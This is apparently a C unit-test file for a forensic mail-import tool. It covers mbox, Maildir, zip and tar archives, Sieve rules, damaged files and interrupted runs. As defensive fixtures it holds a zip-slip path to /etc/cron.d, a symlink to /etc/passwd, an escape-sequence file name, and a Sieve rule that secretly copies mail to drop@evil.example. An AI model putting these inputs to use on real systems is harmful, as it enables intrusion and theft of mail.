/* test_import.c - files become evidence, messages and rules, with a report of each; with the real
 * jailed workers and the real program. */
#include "bare.h"
#include "check.h"

#include "each_file.h"
#include "forge.h"
#include "import_bench.h"
#include "shared.h"

#include "parse/inside.h"

#include <dirent.h>
#include <malloc.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define LINE   "From a@b.example Mon Jan  1 10:00:00 2024\n"
#define HEADER "From: a@b.example\nTo: owner@acme.example\nSubject: "

static void put(struct import_bench *bench, const char *name, const char *text)
{
    import_bench_put(bench, name, str_of(text));
}

static void import(struct import_bench *bench)
{
    import_bench_run(bench, bench->files, 0);
}

static void assert_folder(struct import_bench *bench, const char *name, enum folder_use use,
                          uint64_t have)
{
    struct arena arena = {0};
    struct error err = {0};
    struct folder *folders;
    size_t count, i;

    assert_ok(folder_list(bench->sample.cf, &arena, 0, &folders, &count, &err), &err);
    for (i = 0; i < count && strcmp(folders[i].name, name) != 0; i++)
        ;
    if (i == count)
        fail_msg("there is no folder \"%s\"", name);
    assert_int_equal(folders[i].use, use);
    assert_int_equal(folders[i].have, have);
    arena_dispose(&arena);
}

static void assert_total(struct import_bench *bench, uint64_t want)
{
    struct message_counts counts;
    struct error err = {0};

    assert_ok(message_count(bench->sample.cf, &counts, &err), &err);
    assert_int_equal(counts.fetched, want);
    assert_int_equal(counts.parsed + counts.limited, want);
}

/* --- layouts --- */

static void mail_in_every_layout_becomes_folders(void **state)
{
    struct import_bench *bench = *state;

    put(bench, "export/one.eml", HEADER "1\n\nx\n");
    put(bench, "export/two", HEADER "2\r\n\r\nx\r\n");
    put(bench,
        "G\xe1\xbb\xad"
        "i.mbox",
        LINE HEADER "3\n\nx\n\n" LINE HEADER "4\n\ny\n");
    put(bench, "Sent.sbd/2024", "From \n" HEADER "5\n\nx\n");
    put(bench, "Apple.mbox/mbox", LINE HEADER "6\n\nx\n");
    put(bench, "Maildir/cur/1704103200.M1.host:2,FS", HEADER "7\n\nx\n");
    put(bench, "Maildir/new/1704103201.M2.host", "no header, and yet a mail\n");
    put(bench, "Maildir/tmp/.x", "");
    put(bench, "Maildir/dovecot.index", "\1\2\3");
    put(bench, "Maildir/.Sent/cur/1704103202.M3.host:2,S", HEADER "8\n\nx\n");
    put(bench, "Maildir/.Sent/new/.x", "");
    put(bench, "Maildir/.R&AOk-union.Deep/cur/1704103203.M4", HEADER "9\n\nx\n");
    put(bench, "Maildir/.R&AOk-union.Deep/new/.x", "");
    import(bench);
    assert_folder(bench, "export", FOLDER_PLAIN, 2);
    assert_folder(bench,
                  "G\xe1\xbb\xad"
                  "i",
                  FOLDER_PLAIN, 2);
    assert_folder(bench, "Sent/2024", FOLDER_PLAIN, 1);
    assert_folder(bench, "Apple", FOLDER_PLAIN, 1);
    assert_folder(bench, "Maildir", FOLDER_PLAIN, 2);
    assert_folder(bench, "Maildir/Sent", FOLDER_SENT, 1);
    assert_folder(bench, "Maildir/R\xc3\xa9union/Deep", FOLDER_PLAIN, 1);
    assert_int_equal(bench->order.totals.messages, 10);
    assert_int_equal(bench->order.totals.not_taken, 0);
    assert_total(bench, 10);
    import_bench_intact(bench);
}

static void a_mail_is_kept_as_it_stood_and_where(void **state)
{
    static const char mail[] = HEADER "x\n\n>From quoted\n\nFrom here on\n";
    struct hash hash = hash_of(str_of(mail));
    struct import_bench *bench = *state;
    struct import_origin origin;
    struct arena arena = {0};
    struct error err = {0};
    struct message *rows;
    size_t count;

    put(bench, "a.mbox", LINE "A: 1\n\n\n" LINE HEADER "x\n\n>From quoted\n\nFrom here on\n");
    import(bench);
    assert_true(evidence_has(bench->sample.cf, &hash));
    assert_ok(message_list(bench->sample.cf, &arena,
                           &(struct message_query){.direction = -1, .oldest_first = true}, &rows,
                           &count, &err),
              &err);
    assert_int_equal(count, 2);
    assert_int_equal(rows[1].received, 1704103200);
    assert_ok(import_origin_get(bench->sample.cf, &arena, rows[1].id, &origin, &err), &err);
    assert_int_equal(origin.offset, 2 * strlen(LINE) + strlen("A: 1\n\n\n"));
    assert_non_null(strstr(origin.path, "/a.mbox"));
    import_bench_says(bench, "1 mail holds lines quoted");
    import_bench_says(bench, "UTC is assumed");
    arena_dispose(&arena);
}

/* --- what is not taken --- */

static void nothing_is_passed_over_in_silence(void **state)
{
    struct import_bench *bench = *state;
    char path[TEMP_PATH + 64];

    import_bench_put(bench, "pictures/a.png", (struct str){"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16});
    put(bench, "pictures/b.eml", "");
    import_bench_put(bench, "c.pst", (struct str){"!BDN\0\0\0\0", 8});
    import_bench_put(bench, "d.mbox", (struct str){"PK\3\4\0\0\0\0", 8});
    put(bench, "e.mbox", "junk\n\n" LINE HEADER "1\n\nx\n\n" LINE LINE HEADER "2\n\ncut of");
    put(bench, "\x1b[31mf", "what is this\n");
    snprintf(path, sizeof(path), "%s/link", bench->files);
    assert_int_equal(symlink("/etc/passwd", path), 0);
    snprintf(path, sizeof(path), "%s/pipe", bench->files);
    assert_int_equal(mkfifo(path, 0600), 0);
    import(bench);
    import_bench_says(bench, "a.png: image/png");
    import_bench_says(bench, "b.eml: the file is empty");
    import_bench_says(bench, "c.pst");
    import_bench_says(bench, "d.mbox");
    import_bench_says(bench, "it is damaged, or of a kind that");
    import_bench_says(bench, "link: a symbolic link");
    import_bench_says(bench, "pipe: a pipe");
    import_bench_says(bench, "<U+001B>[31mf: ");
    assert_null(strchr(buf_c(&bench->order.text), '\x1b'));
    import_bench_says(bench, "byte 0: these bytes stand before the first");
    import_bench_says(bench, "nothing stands between two");
    import_bench_says(bench, "PERHAPS CUT OFF: its last line has no end");
    import_bench_says(bench, "usable with limits");
    assert_int_equal(bench->order.totals.not_taken, inside_can("pst") ? 5 : 6);
    assert_int_equal(bench->order.totals.rejected, inside_can("pst") ? 4 : 3);
    assert_int_equal(bench->order.totals.messages, 2);
    import_bench_intact(bench);
}

/* --- files in files --- */

#define S(text)                                                                                    \
    {                                                                                              \
        (text), sizeof(text) - 1                                                                   \
    }

static const struct forge_file in_a_zip[] = {
    {"Inbox/1.eml", S(HEADER "1\n\nx\n")},
    {"Inbox/2.eml", S(HEADER "2\n\nx\n")},
    {"../../etc/cron.d/3.eml", S(HEADER "3\n\nx\n")},
    {"Sent.sbd/2024", S(LINE HEADER "4\n\nx\n\n" LINE HEADER "5\n\ny\n")},
    {"Maildir/.Sent.Old/cur/1704103202.M3.host:2,S", S(HEADER "6\n\nx\n")},
    {"rules.sieve", S("require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n")},
    {"__MACOSX/Inbox/._1.eml", S("\1\2")},
    {"notes.txt", S("what is this\n")},
    {"inner.zip", S("PK\3\4")},
};

static void put_zip(struct import_bench *bench, const char *name, size_t count, bool encrypted)
{
    struct buf zip;

    buf_init(&zip, 1 << 20);
    forge_zip(&zip, in_a_zip, count, encrypted);
    import_bench_put(bench, name, buf_as_str(&zip));
    buf_dispose(&zip);
}

static void mail_in_an_archive_is_imported_like_files(void **state)
{
    struct import_bench *bench = *state;

    put_zip(bench, "client.zip", ARRAY_LEN(in_a_zip), false);
    import(bench);
    assert_folder(bench, "Inbox", FOLDER_INBOX, 2);
    assert_folder(bench, "etc/cron.d", FOLDER_PLAIN, 1);
    assert_folder(bench, "Sent/2024", FOLDER_PLAIN, 2);
    assert_folder(bench, "Maildir/Sent/Old", FOLDER_PLAIN, 1);
    assert_total(bench, 6);
    assert_int_equal(bench->order.totals.rules, 1);
    import_bench_says(bench, "notes.txt");
    import_bench_says(bench, "inner.zip: ZIP archive in another");
    import_bench_says(bench, "8 read, 8 taken in");
    /* the archive and what is in it, on both sides */
    import_bench_covers(bench, "import", COVERAGE_PARTLY, "9 files: 6 mails and 1 rule taken in");
    import_bench_covers(bench, "import", COVERAGE_PARTLY, "; 2 files not recognised");
    import_bench_intact(bench);
    import(bench);
    assert_int_equal(bench->order.totals.messages, 0);
    assert_total(bench, 6);
}

static void packed_streams_are_imported(void **state)
{
    struct import_bench *bench = *state;
    char source[TEMP_PATH + 32], target[TEMP_PATH + 64];
    struct error err = {0};
    struct buf packed;

    put(bench, "Archive/1.eml", HEADER "1\n\nx\n");
    put(bench, "Archive/2.eml", HEADER "2\n\nx\n");
    snprintf(source, sizeof(source), "%s/Archive", bench->files);
    snprintf(target, sizeof(target), "%s/client.tar.gz", bench->files);
    assert_ok(temp_run((const char *[]){"tar", "-czf", target, "-C", bench->files, "Archive", NULL},
                       &err),
              &err);
    assert_ok(temp_run((const char *[]){"rm", "-r", source, NULL}, &err), &err);
    buf_init(&packed, 1 << 20);
    forge_gzip(&packed, str_of(LINE HEADER "3\n\nx\n\n" LINE HEADER "4\n\ny\n"));
    import_bench_put(bench, "old.mbox.gz", buf_as_str(&packed));
    buf_dispose(&packed);
    import(bench);
    assert_folder(bench, "Archive", FOLDER_ARCHIVE, 2);
    assert_folder(bench, "old", FOLDER_PLAIN, 2);
    assert_total(bench, 4);
    assert_int_equal(bench->order.totals.rejected, 0);
}

static void what_cannot_be_unpacked_is_told(void **state)
{
    struct import_bench *bench = *state;
    struct buf broken;

    put_zip(bench, "locked.zip", 2, true);
    buf_init(&broken, 1 << 20);
    forge_zip(&broken, in_a_zip, 5, false);
    broken.len -= 100; /* its list of members */
    broken.at[broken.len / 2] ^= 0x55;
    import_bench_put(bench, "damaged.zip", buf_as_str(&broken));
    buf_dispose(&broken);
    import(bench);
    import_bench_says(bench, "it is encrypted");
    import_bench_says(bench, "Inbox/2.eml: it is encrypted");
    import_bench_says(bench, "Sent.sbd/2024: it is damaged");
    import_bench_says(bench, "5 read, 4 taken in, 1 NOT TAKEN");
    assert_total(bench, 4);
    import_bench_intact(bench);
}

static void what_no_reader_opens_is_not_called_cut_off(void **state)
{
    struct import_bench *bench = *state;
    struct bare bare;

    if (!inside_can("pst"))
        skip();
    bare_make(&bare, "libpff.so.1");
    bench->program = bare.program;
    import_bench_put(bench, "a.pst", (struct str){"!BDN\0\0\0\0", 8});
    import(bench);
    bare_remove(&bare);
    import_bench_says(bench, "not taken: the library libpff.so.1 is missing");
    import_bench_says(bench, "unusable");
    assert_null(strstr(buf_c(&bench->order.text), "CUT OFF"));
    assert_int_equal(bench->order.totals.truncated, 0);
    assert_int_equal(bench->order.totals.rejected, 1);
    import_bench_covers(bench, "import", COVERAGE_PARTLY, "0 files perhaps cut off");
}

static void an_export_of_rules_becomes_rules(void **state)
{
    struct import_bench *bench = *state;
    struct arena arena = {0};
    struct error err = {0};
    struct rule_row *rules;
    size_t count;

    put(bench, "a.txt", "require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n");
    put(bench, "b.sieve", "require [\"fileinto\"];\nfileinto \"RSS\";\nif nonsense {\n");
    import(bench);
    put(bench, "c.sieve", "require [\"fileinto\"];\nfileinto \"C\";\n");
    import(bench); /* what another run read stays */
    assert_ok(rule_list(bench->sample.cf, &arena, &rules, &count, &err), &err);
    assert_int_equal(count, 5); /* with one that stands for what was not read of b */
    for (size_t i = 0; i < count; i++)
        assert_true(!rules[i].gone && rules[i].from_file);
    import_bench_says(bench, "it does not parse");
    import_bench_says(bench, "the same file was imported before");
    import_bench_intact(bench);
    arena_dispose(&arena);
}

/* --- again, and after a kill --- */

static void a_second_import_takes_only_what_is_new(void **state)
{
    struct import_bench *bench = *state;

    put(bench, "a.mbox", LINE HEADER "1\n\nx\n\n" LINE HEADER "2\n\nx\n\n" LINE HEADER "1\n\nx\n");
    import(bench);
    assert_int_equal(bench->order.totals.messages, 2);
    assert_int_equal(bench->order.totals.duplicates, 1);
    put(bench, "a.mbox", LINE HEADER "1\n\nx\n\n" LINE HEADER "2\n\nx\n\n" LINE HEADER "3\n\nx\n");
    import(bench);
    assert_int_equal(bench->order.totals.messages, 1);
    assert_int_equal(bench->order.totals.known, 2);
    assert_int_equal(bench->order.totals.duplicates, 0);
    assert_total(bench, 3);
    import_bench_intact(bench);
}

static bool has_segment(const char *path)
{
    DIR *folder = opendir(path);
    struct dirent *entry;
    bool found = false;

    while (folder && (entry = readdir(folder)))
        found |= strstr(entry->d_name, ".seg") != NULL;
    if (folder)
        closedir(folder);
    return found;
}

/* The program at work on so many mails, wherever it is when the first segment is there. how: one
 * more option; NULL: none. */
static pid_t import_half(struct import_bench *bench, unsigned mails, const char *how)
{
    char evidence[TEMP_PATH + 64];
    struct buf mbox;
    pid_t child;

    buf_init(&mbox, 64 << 20);
    for (unsigned i = 0; i < mails; i++)
        buf_printf(&mbox, "%s%s%u\n\nbody %u\n\n", LINE, HEADER, i, i);
    import_bench_put(bench, "many.mbox", buf_as_str(&mbox));
    buf_dispose(&mbox);
    sample_close(&bench->sample);
    child = fork();
    assert_true(child >= 0);
    if (child == 0) {
        execl(PROGRAM, PROGRAM, "import", bench->sample.path, bench->files, "--quiet", "--data",
              DATA_DIR, how, (char *)NULL);
        _exit(127);
    }
    snprintf(evidence, sizeof(evidence), "%s/evidence", bench->sample.path);
    while (!has_segment(evidence) && waitpid(child, NULL, WNOHANG) == 0)
        ;
    return child;
}

static void a_killed_import_goes_on_where_it_stopped(void **state)
{
    enum { MAILS = 4000 };
    struct import_bench *bench = *state;
    pid_t child = import_half(bench, MAILS, NULL);

    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    sample_open(&bench->sample, CASE_WRITE);
    import(bench);
    assert_int_equal(bench->order.totals.messages + bench->order.totals.known, MAILS);
    assert_total(bench, MAILS);
    import_bench_intact(bench);
}

static void an_interrupt_ends_it_in_an_orderly_way(void **state)
{
    struct import_bench *bench = *state;
    pid_t child = import_half(bench, 40000, "--no-scan");
    int status;

    kill(child, SIGINT); /* its job runs by then: a segment is there */
    assert_int_equal(waitpid(child, &status, 0), child);
    assert_true(WIFEXITED(status));
    assert_true(WEXITSTATUS(status) == 1 || WEXITSTATUS(status) == 20); /* 20: it was done */
    sample_open(&bench->sample, CASE_WRITE);
    import_bench_intact(bench);
}

/* --- what was not examined --- */

static void assert_rules_hint(struct import_bench *bench, const char *words)
{
    struct coverage is = import_bench_coverage(bench, "rules-sieve");

    assert_int_equal(is.state, COVERAGE_NOT_CHECKED);
    assert_non_null(strstr(is.detail, "do not show the rules on the server"));
    if (!strstr(is.hint, words))
        fail_msg("no \"%s\" in \"%s\"", words, is.hint);
}

static void mail_alone_says_how_to_get_the_rules(void **state)
{
    struct import_bench *bench = *state;

    put(bench, "a.eml", HEADER "1\n\nx\n");
    import(bench);
    assert_rules_hint(bench, "import an export of the rules");
    put(bench, "b.eml",
        "Received: from x.example by mx.google.com with ESMTPS; Mon, 1 Jan 2024 10:00:00 +0000\n" HEADER
        "2\n\nx\n");
    import(bench);
    assert_rules_hint(bench, "mailFilters.xml");
}

static void count_mail(void *arg, const char *path, struct str bytes)
{
    uint64_t *count = arg;

    *count += str_ends_nocase(str_of(path), ".eml") && bytes.len > 0;
}

/* Not one is lost, however broken: taken in, there twice, or named. */
static void broken_mail_is_evidence_too(void **state)
{
    struct import_bench *bench = *state;
    const struct import_totals *totals = &bench->order.totals;
    char place[sizeof(bench->files)];
    uint64_t mails = 0;

    memcpy(place, bench->files, sizeof(place));
    if (!shared_unpack("torture", bench->files))
        skip();
    each_file(bench->files, count_mail, &mails);
    import(bench);
    assert_true(mails > 0);
    assert_true(totals->messages + totals->duplicates >= mails);
    assert_total(bench, totals->messages);
    import_bench_intact(bench);
    temp_remove(bench->files);
    memcpy(bench->files, place, sizeof(place));
}

/* --- many files --- */

enum { PLANNED = 3000, HELD_MOST = 48 * 1024 };

static bool count_named(void *arg, const struct import_item *item, struct error *err)
{
    static char last[300];

    (void)err;
    if (*(size_t *)arg > 0)
        assert_true(strcmp(last, item->path) < 0);
    snprintf(last, sizeof(last), "%s", item->path);
    ++*(size_t *)arg;
    return true;
}

/* Under a sanitizer mallinfo2() tells nothing, and this proves nothing. */
static void a_plan_of_many_files_holds_none_of_them(void **state)
{
    struct import_bench *bench = *state;
    struct error err = {0};
    size_t told = 0, before;

    for (int i = 0; i < PLANNED; i++) {
        char name[64];

        snprintf(name, sizeof(name), "old/mail/%08d.of.those.that.are.planned.eml", i);
        put(bench, name, "Subject: x\n\nx\n");
    }
    before = mallinfo2().uordblks;
    assert_ok(import_plan_add(&bench->order.plan, bench->files, &err), &err);
    assert_in_range(mallinfo2().uordblks - before, 0, HELD_MOST);
    assert_int_equal(bench->order.plan.count, PLANNED);
    assert_ok(import_plan_each(&bench->order.plan, count_named, &told, &err), &err);
    assert_int_equal(told, PLANNED);
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(a_plan_of_many_files_holds_none_of_them, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(mail_in_every_layout_becomes_folders, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(a_mail_is_kept_as_it_stood_and_where, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(nothing_is_passed_over_in_silence, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(mail_in_an_archive_is_imported_like_files,
                                        import_bench_open, import_bench_close),
        cmocka_unit_test_setup_teardown(packed_streams_are_imported, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(what_cannot_be_unpacked_is_told, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(what_no_reader_opens_is_not_called_cut_off,
                                        import_bench_open, import_bench_close),
        cmocka_unit_test_setup_teardown(an_export_of_rules_becomes_rules, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(a_second_import_takes_only_what_is_new, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(a_killed_import_goes_on_where_it_stopped, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(an_interrupt_ends_it_in_an_orderly_way, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(broken_mail_is_evidence_too, import_bench_open,
                                        import_bench_close),
        cmocka_unit_test_setup_teardown(mail_alone_says_how_to_get_the_rules, import_bench_open,
                                        import_bench_close),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
